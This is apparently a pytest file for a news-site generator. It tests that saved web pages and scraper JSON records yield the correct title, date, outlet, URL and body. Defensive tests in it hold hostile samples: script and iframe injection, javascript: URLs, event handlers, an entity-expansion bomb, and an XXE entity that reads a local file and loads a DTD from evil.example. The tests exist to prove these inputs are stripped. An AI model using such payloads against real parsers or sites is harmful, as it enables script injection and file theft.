"""Seeds that are saved web pages (.html) or scraper records (.json), read as a build reads them.

Pages are composed in the shapes of common publishing systems (tests/fixtures/webpages/pages.py);
for each the article must get the title, date, outlet, URL and body the page states, and none of
its chrome (menus, forms, scripts, related stories). The hostile text corpus, wrapped in pages,
must behave as the text seeds do.
"""
from __future__ import annotations

import codecs
import datetime as dt
import gzip
import html
import json
import socket
import sys
from pathlib import Path

import pytest

from generator.extract import extract, hints_for
from generator.index.archive import make_article
from generator.read.register import Register, load_register
from generator.read.scraped import read_record
from generator.read.seeds import decode_article, read_seeds
from generator.read.webpage import read_page

FIXTURES = Path(__file__).parent / "fixtures" / "webpages"
sys.path.insert(0, str(FIXTURES))
import pages  # noqa: E402
from pages import Story  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
CHROME = ("FORMFIELDTEXT", "NEWSLETTERFORMTEXT", "SCRIPTTEXT", "Related stories", "We use cookies", "Share on",
          "Oil prices climb", "All rights reserved", "Sign up", "acceptCookies", "dataLayer", "gtag")

BODY = (
    "BAGHDAD, March 4 (Staff) - Two drones struck a logistics depot near the Victory base complex on Monday "
    "night, causing a fire but no casualties, two security officials said.",
    "\"The depot was empty when the drones hit it,\" said Colonel Saad Maan, a spokesperson for the security "
    "media cell, adding that an investigation had begun.",
    "No group has claimed the attack. Armed factions have targeted sites hosting foreign advisers several "
    "times since October, and the government has promised to pursue those responsible.",
    "The coalition said in a short statement that none of its personnel were at the site and that it was "
    "coordinating with Iraqi forces.",
)


def story(**kw) -> Story:
    base = dict(title="Drones strike depot near Baghdad airport base", paragraphs=BODY, date="2024-03-04",
                outlet="Tigris Daily", url="https://tigrisdaily.example/2024/03/04/drones-strike-depot",
                description="Two drones hit a depot near the Victory base complex; no casualties.")
    base.update(kw)
    return Story(**base)


def read_one(tmp_path: Path, name: str, data: str | bytes, sidecar: str | None = None):
    """The article a build makes of one seed file, and the problems met."""
    seeds = tmp_path / "seeds"
    seeds.mkdir(parents=True, exist_ok=True)
    (seeds / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    if sidecar is not None:
        (seeds / f"{Path(name).stem}.yml").write_text(sidecar, encoding="utf-8")
    found, problems = read_seeds(seeds)
    if not found:
        return None, [str(p) for p in problems]
    s = found[0]
    return make_article(s.stem, extract(s.text, Register(), hints_for(s)), s.sidecar, s.page), [str(p) for p in problems]


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Reading a page must never open a connection (trafilatura and htmldate can fetch URLs)."""
    def refuse(*args, **kwargs):
        raise AssertionError("the reader tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


# --------------------------------------------------------------------------- publishing systems

@pytest.mark.parametrize("shape", ["wordpress", "arc", "drupal", "wire", "amp"])
def test_each_publishing_system_gives_title_date_outlet_url_and_body(tmp_path, shape):
    s = story()
    article, problems = read_one(tmp_path, "page.html", pages.SHAPES[shape](s))
    assert problems == []
    assert article.title == s.title
    assert article.date == dt.date(2024, 3, 4)
    assert article.source == "Tigris Daily"
    assert article.url == s.url
    body = "\n".join(article.paragraphs)
    for paragraph in BODY:
        assert paragraph in body, (shape, paragraph, body)
    for chrome in CHROME:
        assert chrome not in body, (shape, chrome)


def test_a_government_press_release_gives_its_date_from_the_text_and_its_url_from_the_saved_comment(tmp_path):
    s = story(outlet="Ministry of Defence", date=None, url=None,
              paragraphs=("Baghdad, 12 March 2024 - The Ministry of Defence announced today the completion of "
                          "the handover of the training facility at the Taji base to the Iraqi army.",
                          *BODY[2:]))
    page = pages.government(s).encode("cp1252")
    saved = b"<!-- saved from url=(0043)https://mod.gov.example/press/2024/0312.htm -->\n"
    article, problems = read_one(tmp_path, "release.htm", saved + page)
    assert problems == []
    assert article.title == s.title
    assert article.date == dt.date(2024, 3, 12)  # the page states none: the text's own date
    assert article.url == "https://mod.gov.example/press/2024/0312.htm"
    assert article.source in ("Ministry of Defence", "mod.gov.example")
    assert "handover of the training facility" in article.paragraphs[0]
    assert not any("ENDS" in p or "Media office" in p for p in article.paragraphs[1:-1])


def test_the_page_metadata_wins_over_the_text_and_the_sidecar_over_both(tmp_path):
    s = story(paragraphs=("BAGHDAD, Feb 28, 2024 (Reuters) - " + BODY[0].split(" - ", 1)[1], *BODY[1:]))
    page = pages.wordpress(s)
    article, _ = read_one(tmp_path / "a", "page.html", page)
    assert (article.date, article.source) == (dt.date(2024, 3, 4), "Tigris Daily")  # not Feb 28, not Reuters
    sidecar = "title: Edited title\ndate: 2024-03-05\nsource: Edited Outlet\nurl: https://edited.example/x\n"
    article, problems = read_one(tmp_path / "b", "page.html", page, sidecar)
    assert problems == []
    assert (article.title, article.date, article.source, article.url) == (
        "Edited title", dt.date(2024, 3, 5), "Edited Outlet", "https://edited.example/x")


def test_a_page_without_a_canonical_link_takes_the_url_it_was_saved_from(tmp_path):
    s = story()
    page = pages.wire(s).replace(f'<meta property="og:url" content="{s.url}">', "")
    saved = "<!-- saved from url=(0034)https://wire.example/story/12345 -->\n"
    article, _ = read_one(tmp_path, "wire.html", saved + page)
    assert article.url == "https://wire.example/story/12345"


def test_a_page_naming_no_site_takes_its_host_as_the_outlet_only_as_a_last_resort(tmp_path):
    s = story(paragraphs=BODY[1:])  # no "(Staff)" dateline: the text names no outlet either
    page = pages.amp(s).replace('"publisher": {"@type": "Organization", "name": "Tigris Daily"}, ', "")
    article, _ = read_one(tmp_path, "amp.html", page)
    assert article.source == "tigrisdaily.example"
    text_outlet = pages.amp(story(paragraphs=BODY[1:], title="Drones strike depot | Euphrates Post")).replace(
        '"publisher": {"@type": "Organization", "name": "Tigris Daily"}, ', "")
    article, _ = read_one(tmp_path / "b", "amp.html", text_outlet)
    assert article.source != "tigrisdaily.example"  # the page's own title names its outlet


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                 "https://x.example/a b\"onmouseover=alert(1)", "//no-scheme.example/x"])
def test_a_hostile_canonical_url_is_dropped(tmp_path, url):
    s = story()
    page = pages.wordpress(s).replace(html.escape(s.url, quote=True), html.escape(url, quote=True))
    article, _ = read_one(tmp_path, "page.html", page)
    assert article.url is None or article.url.startswith(("http://", "https://")) and " " not in article.url \
        and '"' not in article.url


# --------------------------------------------------------------------------- hostile pages

def test_scripts_iframes_forms_and_event_handlers_never_survive(tmp_path):
    s = story(paragraphs=(*BODY, ))
    page = pages.wordpress(s).replace(
        "</div></article>",
        "<script>document.write('INJECTED-SCRIPT')</script><iframe srcdoc='INJECTED-IFRAME'></iframe>"
        "<form><input value='INJECTED-FORM'><textarea>INJECTED-TEXTAREA</textarea></form>"
        "<noscript>INJECTED-NOSCRIPT</noscript><style>p{color:red}/*INJECTED-STYLE*/</style>"
        "<p onmouseover=\"alert('handler')\">The handler paragraph is plain text here.</p>"
        "<svg><script>INJECTED-SVG</script></svg></div></article>")
    text, meta, problems = read_page(page.encode(), "p.html")
    assert text is not None and problems == []
    assert "INJECTED" not in text and "onmouseover" not in text and "alert(" not in text
    assert "The handler paragraph is plain text here." in text
    assert "<" not in text.replace("&lt;", "")  # no markup at all: the text is plain


def test_entities_are_never_expanded_and_nothing_external_is_loaded(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    bomb = "".join(f'<!ENTITY l{i} "&l{i - 1};&l{i - 1};&l{i - 1};&l{i - 1};&l{i - 1};">' for i in range(1, 10))
    page = (f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "LOL">{bomb}'
            f'<!ENTITY xxe SYSTEM "file://{secret}"><!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'
            + pages.wordpress(story()).split("\n", 1)[1].replace("<p>", "<p>&xxe; &l9; ", 1))
    text, meta, problems = read_page(page.encode(), "p.html")
    assert text is not None
    assert "TOP-SECRET" not in text and "LOLLOL" not in text and len(text) < 5000


def test_compressed_binary_oversize_and_empty_pages_are_one_line_problems(tmp_path, monkeypatch):
    from generator.read import seeds as reading

    page = pages.wordpress(story()).encode()
    cases = {
        "gzipped.html": (gzip.compress(page), "is gzip-compressed data, not a web page"),
        "zipped.htm": (b"PK\x03\x04" + bytes(200), "is a ZIP archive data, not a web page"),
        "binary.html": (b"\x89PNG\r\n\x1a\n" + bytes(3000), "is a binary file, not a web page"),
        "empty.html": (b" \n\t ", "is empty"),
        "menu-only.html": (b"<html><body><nav><a href='/'>Home</a> <a href='/x'>World</a></nav></body></html>",
                           "no article text found in the page"),
        "big.html": (page + b"<!--" + b"x" * 3000 + b"-->", "too large"),
    }
    monkeypatch.setattr(reading, "MAX_ARTICLE_BYTES", len(page) + 1000)
    monkeypatch.setattr("generator.read.webpage.MAX_ARTICLE_BYTES", len(page) + 1000)
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    for name, (data, _) in cases.items():
        (seeds / name).write_bytes(data)
    (seeds / "good.html").write_bytes(page)
    found, problems = read_seeds(seeds)
    assert [s.stem for s in found] == ["good"]
    lines = [str(p) for p in problems]
    for name, (_, expected) in cases.items():
        mine = [line for line in lines if line.startswith(f"{seeds / name}: error: ")]
        assert len(mine) == 1 and expected in mine[0], (name, lines)
    assert all("\n" not in line for line in lines)


@pytest.mark.parametrize("declared,encoding,warning", [
    ("utf-8", "cp1252", "declares charset 'utf-8' but its bytes are not utf-8; decoded as"),
    ("iso-8859-1", "utf-8", "declares charset 'iso-8859-1' but its bytes are not iso-8859-1; decoded as UTF-8"),
    ("windows-1256", "windows-1256", None),
    (None, "cp1252", "is not UTF-8; decoded as"),
    ("no-such-charset", "utf-8", "declares an unknown charset"),
])
def test_mis_declared_encodings_are_decoded_with_a_warning(declared, encoding, warning):
    title = "Le ministre a déclaré « assez » à Bagdad" if encoding != "windows-1256" else "بيان وزارة الدفاع العراقية"
    s = story(title=title, paragraphs=("Le ministre a déclaré « assez » à Bagdad, où la coalition réduit sa "
                                       "présence militaire depuis janvier, selon un communiqué publié lundi.",
                                       *BODY[1:]) if encoding != "windows-1256" else
              ("قال المتحدث باسم وزارة الدفاع العراقية إن القوات الأمنية بدأت تحقيقا في الهجوم على القاعدة، "
               "وإن الأضرار اقتصرت على المعدات ولم تسجل إصابات بين الجنود.",) * 3)
    page = pages.wire(s).replace('<meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
                                 f'<meta charset="{declared}">' if declared else "")
    text, meta, problems = read_page(page.encode(encoding), "p.html")
    assert text is not None and meta.title == title
    assert title in text
    messages = [str(p) for p in problems]
    if warning:
        assert len(messages) == 1 and warning in messages[0] and messages[0].startswith("p.html: warning: "), messages
    else:
        assert messages == []


@pytest.mark.parametrize("bom,codec", [(codecs.BOM_UTF8, "utf-8"), (codecs.BOM_UTF16_LE, "utf-16-le"),
                                       (codecs.BOM_UTF16_BE, "utf-16-be")])
def test_a_byte_order_mark_wins_over_the_declared_charset(bom, codec):
    s = story(title="Déclaration du ministère à Bagdad")
    page = pages.wordpress(s).replace('<meta charset="UTF-8">', '<meta charset="windows-1252">')
    text, meta, problems = read_page(bom + page.encode(codec), "p.html")
    assert problems == [] and meta.title == "Déclaration du ministère à Bagdad"


# --------------------------------------------------------------------------- the hostile corpus as pages

def as_page(raw: bytes) -> bytes:
    """A hostile text seed wrapped in a page as a browser would save it, in the text's own encoding."""
    text, _ = decode_article(raw, "x")
    if text is None:
        return raw  # empty or binary: the same bytes
    lines = [line for line in text.split("\n") if line.strip()]
    title = html.escape(lines[0])
    body = "\n".join(f"<p onclick=\"alert('page')\">{html.escape(line)}</p>" for line in lines[1:])
    page = (f"<!DOCTYPE html><html><head><title>{title}</title><script>alert('head')</script></head><body>"
            f"<nav><a href='/'>Home</a></nav><article><h1>{title}</h1>{body}</article>"
            f"<iframe src=\"javascript:alert('frame')\"></iframe><footer>Contact</footer></body></html>")
    for bom, codec in ((codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be"),
                       (codecs.BOM_UTF8, "utf-8")):
        if raw.startswith(bom):
            return bom + page.encode(codec)
    if raw.count(b"\x00") * 4 > len(raw):
        return page.encode("utf-16-le")
    try:
        raw.decode("utf-8")
        return page.encode("utf-8")
    except UnicodeDecodeError:
        return page.encode("cp1252", errors="replace")


def hostile_pages(folder: Path) -> Path:
    """tests/hostile/seeds with every article a page (`.html`), its sidecar beside it."""
    src = ROOT / "tests" / "hostile" / "seeds"
    folder.mkdir(parents=True, exist_ok=True)
    for path in sorted(src.iterdir()):
        if path.suffix == ".txt":
            (folder / f"{path.stem}.html").write_bytes(as_page(path.read_bytes()))
        else:
            (folder / path.name).write_bytes(path.read_bytes())
    return folder


def test_the_hostile_corpus_as_pages_reads_as_the_text_seeds_do(tmp_path):
    text_seeds, text_problems = read_seeds(ROOT / "tests" / "hostile" / "seeds")
    page_seeds, page_problems = read_seeds(hostile_pages(tmp_path / "seeds"))
    assert [s.stem for s in page_seeds] == [s.stem for s in text_seeds]
    register, _ = load_register(ROOT / "tests" / "hostile" / "register.yml")
    for t, p in zip(text_seeds, page_seeds):
        from_text, from_page = extract(t.text, register, hints_for(t)), extract(p.text, register, hints_for(p))
        assert from_page.title == from_text.title, t.stem
        assert from_page.paragraphs == from_text.paragraphs, t.stem
        assert from_page.date == from_text.date, t.stem
        assert "alert('page')" not in p.text and "alert('head')" not in p.text and "alert('frame')" not in p.text

    text_errors = {str(x).split(": ")[0].rsplit("/", 1)[-1].removesuffix(".txt") for x in text_problems
                   if x.severity == "error"}
    page_errors = {str(x).split(": ")[0].rsplit("/", 1)[-1].removesuffix(".html") for x in page_problems
                   if x.severity == "error"}
    assert page_errors == text_errors


# --------------------------------------------------------------------------- JSON seeds

TRAFILATURA = {  # trafilatura 2.3 `--json --with-metadata`: build_json_output's keys
    "title": "Drones strike depot near Baghdad airport base", "author": "Staff Writer",
    "hostname": "tigrisdaily.example", "date": "2024-03-04", "fingerprint": "8c1f0e2b", "id": None,
    "license": None, "comments": "", "raw_text": " ".join(BODY), "text": "\n".join(BODY), "language": "en",
    "image": None, "pagetype": "article", "filedate": "2024-03-05",
    "source": "https://tigrisdaily.example/2024/03/04/drones-strike-depot", "source-hostname": "Tigris Daily",
    "excerpt": "Two drones hit a depot.", "categories": "World", "tags": "Iraq;Security",
}
NEWSPAPER = {  # newspaper4k `Article.to_json()`
    "url": "https://tigrisdaily.example/2024/03/04/drones-strike-depot", "read_more_link": "", "language": "en",
    "title": "Drones strike depot near Baghdad airport base", "top_image": "https://tigrisdaily.example/lead.jpg",
    "meta_img": "", "images": [], "movies": [], "keywords": ["drones"], "keyword_scores": {"drones": 1.0},
    "meta_keywords": [""], "tags": [], "authors": ["Staff Writer"], "publish_date": "2024-03-04T08:30:00+00:00",
    "summary": "", "meta_description": "Two drones hit a depot.", "meta_lang": "en", "meta_favicon": "",
    "meta_site_name": "Tigris Daily", "canonical_link": "https://tigrisdaily.example/2024/03/04/drones-strike-depot",
    "text": "\n\n".join(BODY),
}


@pytest.mark.parametrize("record", [TRAFILATURA, NEWSPAPER], ids=["trafilatura", "newspaper4k"])
def test_scraper_records_in_both_shapes(tmp_path, record):
    article, problems = read_one(tmp_path, "story.json", json.dumps(record))
    assert problems == []
    assert article.title == "Drones strike depot near Baghdad airport base"
    assert article.date == dt.date(2024, 3, 4)
    assert article.source == "Tigris Daily"
    assert article.url == "https://tigrisdaily.example/2024/03/04/drones-strike-depot"
    assert [p for p in article.paragraphs] == list(BODY)


def test_unknown_keys_are_reported_and_not_fatal(tmp_path):
    article, problems = read_one(tmp_path, "story.json", json.dumps({**TRAFILATURA, "titel": "x", "views": 3}))
    assert article is not None and article.title == TRAFILATURA["title"]
    assert [p.split(": ", 1)[1] for p in problems] == [
        "warning: unknown key 'titel' (neither trafilatura nor newspaper4k writes it); ignored",
        "warning: unknown key 'views' (neither trafilatura nor newspaper4k writes it); ignored"]


@pytest.mark.parametrize("data,expected", [
    (b"[1, 2]", "must be one JSON object"),
    (b"\"just a string\"", "must be one JSON object"),
    (b"{\"title\": \"No text\"}", "has no article text"),
    (b"{\"title\": \"Blank\", \"text\": \"  \\n \"}", "has no article text"),
    (b"{\"title\": ", "is not valid JSON (line 1)"),
    (b"[" * 100000 + b"]" * 100000, "is not valid JSON"),
])
def test_records_that_are_no_article_are_one_line_problems(data, expected):
    text, meta, problems = read_record(data, "r.json")
    assert text is None and len(problems) == 1 and expected in str(problems[0]), [str(p) for p in problems]


def test_a_record_in_utf16_and_with_hostile_values(tmp_path):
    record = {**NEWSPAPER, "title": "Title <script>alert(1)</script>\u0007", "canonical_link": "javascript:alert(1)",
              "url": "https://ok.example/a"}
    text, meta, problems = read_record(json.dumps(record, ensure_ascii=False).encode("utf-16"), "r.json")
    assert meta.title == "Title <script>alert(1)</script>" and meta.url == "https://ok.example/a"


# --------------------------------------------------------------------------- duplicates across formats

def test_the_same_story_as_text_and_as_page_is_one_article(tmp_path):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    s = story()
    (seeds / "a-story.txt").write_text(f"{s.title}\n\nMonday, March 4, 2024\n\n" + "\n\n".join(BODY) +
                                       "\n\nLatest stories\n", encoding="utf-8")
    (seeds / "b-story.html").write_text(pages.arc(s), encoding="utf-8")
    (seeds / "c-story.json").write_text(json.dumps(NEWSPAPER), encoding="utf-8")
    (seeds / "d-other.html").write_text(pages.arc(story(title="A different story", paragraphs=(
        "ERBIL - The regional government opened a new border crossing with Turkey on Sunday, officials said, "
        "to ease trade delays that have stranded hundreds of trucks for weeks.",) * 2)), encoding="utf-8")
    found, problems = read_seeds(seeds)
    assert [f.stem for f in found] == ["b-story", "d-other"]  # the page (date, outlet, URL) is kept
    assert sorted(str(p).split(": ", 1)[1] for p in problems) == [
        f"warning: is the same story as {seeds / 'b-story.html'}, which is published; skipped",
        f"warning: is the same story as {seeds / 'b-story.html'}, which is published; skipped"]


def test_an_edited_text_seed_keeps_its_place_over_a_page_of_the_same_story(tmp_path):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    s = story()
    (seeds / "a.txt").write_text(f"{s.title}\n\n" + "\n\n".join(BODY), encoding="utf-8")
    (seeds / "a.yml").write_text("source: Edited Outlet\n", encoding="utf-8")
    (seeds / "b.html").write_text(pages.wordpress(s), encoding="utf-8")
    found, problems = read_seeds(seeds)
    assert [f.stem for f in found] == ["a"] and "b.html: warning: is the same story as" in str(problems[0])


def test_a_text_and_a_page_of_the_same_name_are_one_article_and_the_other_named(tmp_path):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    (seeds / "x.txt").write_text("Headline\n\nBody text here.\n")
    (seeds / "x.html").write_text(pages.wordpress(story()))
    found, problems = read_seeds(seeds)
    assert [f.path.name for f in found] == ["x.txt"]
    assert [str(p).split(": ", 1)[1] for p in problems] == [
        "error: is not read: x.txt is the article of this name (rename one of them)"]


# --------------------------------------------------------------------------- the share table (README "Seeds")

def test_the_readme_share_table_is_what_the_script_measures():
    sys.path.insert(0, str(ROOT / "scripts"))
    import page_share

    rows = page_share.measure()
    table = page_share.table(rows)
    assert table in (ROOT / "README.md").read_text(encoding="utf-8"), table
    as_pages = rows[-1][1]
    for a in as_pages:  # each page gives what its site states
        shape, outlet, date, url = pages.SEED_PAGES[a.stem]
        assert (a.source, a.date.isoformat(), a.url) == (outlet, date, url), a.stem


def test_the_extraction_cache_is_keyed_on_the_page_metadata_and_the_readers_code():
    from generator.models import PageMeta, SeedFile
    from generator.speed import extraction_cache

    def key(page):
        return extraction_cache.cache_key(SeedFile("a", Path("a.html"), "text", "d", None, "", page), Register(), "c")

    assert key(PageMeta(title="A", date=dt.date(2024, 1, 1))) != key(PageMeta(title="A", date=dt.date(2024, 1, 2)))
    assert key(PageMeta(title="A")) != key(PageMeta(title="B"))
    assert key(None) != key(PageMeta(date=dt.date(2024, 1, 1)))
    sources = extraction_cache.extractor_fingerprint.__code__.co_consts
    assert "webpage.py" in sources and "scraped.py" in sources
    assert "trafilatura" in extraction_cache.extractor_fingerprint()


def test_a_page_is_read_again_only_when_its_bytes_change(tmp_path, monkeypatch):
    from generator.read import seeds as reading
    from generator.speed.reading_cache import cached_reading

    seeds = tmp_path / "seeds"
    seeds.mkdir()
    (seeds / "a.html").write_text(pages.wordpress(story()), encoding="utf-8")
    (seeds / "b.json").write_text(json.dumps(NEWSPAPER), encoding="utf-8")
    (seeds / "c.txt").write_text("A headline\n\nA body.\n", encoding="utf-8")
    calls: list[str] = []
    real = reading.read_article
    monkeypatch.setattr(reading, "read_article", lambda raw, label, suffix: calls.append(suffix) or
                        real(raw, label, suffix))
    step = cached_reading(tmp_path / "cache" / "page-reads.pickle")
    first = step(seeds)
    assert sorted(calls) == [".html", ".json", ".txt"]
    calls.clear()
    assert step(seeds) == first and calls == [".txt"]  # the page and the record were not read again
    (seeds / "a.html").write_text(pages.wordpress(story(date="2024-03-05")), encoding="utf-8")
    again, _ = step(seeds)
    assert sorted(calls) == [".html", ".txt", ".txt"]
    assert [s.page.date for s in again if s.stem == "a"] == [dt.date(2024, 3, 5)]
    assert step(seeds) == read_seeds(seeds)  # the same as reading without the cache


@pytest.mark.e2e
def test_the_hostile_corpus_as_pages_builds_a_site_with_nothing_injected(tmp_path):
    """tests/test_hostile_site.py's checks, on the site built from the hostile corpus saved as pages
    (every page adding a script, an iframe and event handlers of its own)."""
    import shutil

    import test_hostile_site as hs
    from project_files import copy_project

    root = copy_project(tmp_path / "project")
    shutil.rmtree(root / "seeds")
    hostile_pages(root / "seeds")
    shutil.copy2(ROOT / "tests" / "hostile" / "register.yml", root / "register.yml")
    generated = hs.run([sys.executable, "-m", "generator", "build", "--jobs", "1"], cwd=root)
    built = hs.run([sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=root, BRIEFING_SKIP_GENERATE="1")
    assert "WARNING" not in built.stderr and "ERROR" not in built.stderr, built.stderr
    site = root / "site"
    built_pages = {p.relative_to(site).as_posix(): hs.Html(p.read_text(encoding="utf-8")) for p in site.rglob("*.html")}
    hostile = {"root": root, "site": site, "problems": generated.stderr, "pages": built_pages}
    hs.test_no_injected_element_attribute_url_or_script_on_any_page(hostile)
    hs.test_no_control_characters_or_markdown_placeholders_reach_the_site(hostile)
    hs.test_hostile_article_text_shows_literally(hostile)
    hs.test_escaping_alone_leaves_nothing_for_the_sanitiser(hostile)
    for marker in ("alert('page')", "alert('head')", "alert('frame')"):
        assert not any(marker in (site / path).read_text(encoding="utf-8") for path in built_pages), marker


def test_two_outlets_pages_of_one_wire_story_stay_two_articles(tmp_path):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    (seeds / "a.html").write_text(pages.wordpress(story(outlet="Outlet A", url="https://a.example/x")))
    (seeds / "b.html").write_text(pages.arc(story(outlet="Outlet B", url="https://b.example/y", paragraphs=(
        BODY[0].replace("(Staff)", "(Outlet B)"), *BODY[1:], "Outlet B added its own closing line to the wire copy."))))
    found, problems = read_seeds(seeds)
    assert [f.stem for f in found] == ["a", "b"] and problems == []  # as two such .txt files would
    (seeds / "c.txt").write_text(f"{BODY[0]}\n\n" + "\n\n".join(BODY[1:]) + "\n\nAnd a line of its own.\n")
    found, problems = read_seeds(seeds)
    assert [f.stem for f in found] == ["a", "b"] and "c.txt: warning: is the same story as" in str(problems[0])


def test_extract_json_reads_pages_and_records_in_the_eval_contract(tmp_path):
    from click.testing import CliRunner

    from generator.cli import main

    (tmp_path / "p.html").write_text(pages.drupal(story()), encoding="utf-8")
    (tmp_path / "r.json").write_text(json.dumps(TRAFILATURA), encoding="utf-8")
    (tmp_path / "t.txt").write_text(f"{story().title}\n\n" + "\n\n".join(BODY), encoding="utf-8")
    result = CliRunner().invoke(main, ["extract", "--json", "--root", str(tmp_path), *(str(tmp_path / n) for n in
                                                                                      ("p.html", "r.json", "t.txt"))])
    assert result.exit_code == 0, result.output
    records = json.loads(result.output[result.output.index("["):])
    assert [r["file"] for r in records] == ["p.html", "r.json", "t.txt"]
    assert {r["title"] for r in records} == {"Drones strike depot near Baghdad airport base"}
    assert [r["date"] for r in records] == ["2024-03-04", "2024-03-04", None]  # the text says only "March 4"
    assert all(set(r) >= {"file", "title", "date", "dateline", "actors", "bases", "quotes"} for r in records)
    assert all(r["dateline"] == {"place": "Baghdad", "agency": "Staff"} for r in records)


@pytest.mark.parametrize("title, sitename, host, expected", [
    # the name the page states, or its address's, after a separator (Al Bawaba's pages, session 49)
    ("World Lashes Out at US Over Settlements | Al Bawaba", None, "albawaba.com",
     "World Lashes Out at US Over Settlements"),
    ("Drone hits air base - Tigris Daily", "Tigris Daily", None, "Drone hits air base"),
    ("Drone hits air base \u2014 The Tigris Daily", None, "thetigrisdaily.com", "Drone hits air base"),
    # a headline's own dash or bar stays
    ("Iraq - the long road home", None, "tigrisdaily.com", "Iraq - the long road home"),
    ("Kurds | Arabs: a city divided", "Tigris Daily", None, "Kurds | Arabs: a city divided"),
    ("Tigris Daily", "Tigris Daily", None, "Tigris Daily"),
])
def test_a_page_title_loses_the_site_name_it_ends_with(title, sitename, host, expected):
    from generator.read.webpage import _without_site_name
    assert _without_site_name(title, sitename, host) == expected
